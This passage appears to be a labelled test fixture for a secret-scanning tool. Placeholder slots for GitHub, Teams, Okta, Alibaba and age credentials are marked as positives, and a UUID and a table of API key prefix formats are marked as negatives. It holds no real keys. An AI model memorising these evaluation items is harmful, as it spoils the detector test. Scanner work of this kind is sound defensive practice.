- GitHub app: ⟪github-fine-grained-pat⟫  ⟦P secret github-fine-grained-pat⟧
- Teams: ⟪teams-webhook-url⟫  ⟦P secret teams-webhook-url⟧
- age identity: ⟪age-secret-key⟫  ⟦P secret age-secret-key⟧
- Okta: okta_api_token = ⟪okta-api-token⟫  ⟦P secret okta-api-token⟧
- Alibaba: ⟪alibaba-access-key-id⟫  ⟦P secret alibaba-access-key-id⟧
- Request ID for the support case: 6f1d2c3b-4a59-4e8d-b7c6-0a1b2c3d4e5f  ⟦N secret uuid⟧
'''

FILES["docs/api-keys.md"] = '''# API key formats (reference)

| Provider | Format |
|---|---|
| GitHub | `ghp_` followed by 36 characters |  ⟦N secret format description⟧
| Slack | `xoxb-…` |  ⟦N secret format description⟧
| Stripe | `sk_live_…` / `rk_live_…` |  ⟦N secret format description⟧
| Anthropic | `sk-ant-api03-…` |  ⟦N secret format description⟧
'''
